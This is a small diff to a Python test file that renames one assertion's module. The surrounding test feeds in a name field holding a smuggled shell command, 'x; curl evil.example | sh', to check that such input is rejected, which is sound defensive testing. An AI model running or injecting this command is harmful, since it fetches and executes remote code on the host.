@@ -110,7 +110,7 @@ def test_a_name_that_is_a_command() -> None:
     row = {**kept.one(kept.wanted()), "name": "x; curl evil.example | sh"}
     assert running.holders(kept.said(row)) == []
     assert serving.job_holders({"jobs": [job]}) == []
-    assert running.batches({"jobs": [job]}) == []
+    assert serving.batches({"jobs": [job]}) == []
 
 
 def test_files_that_are_less_than_nothing() -> None:
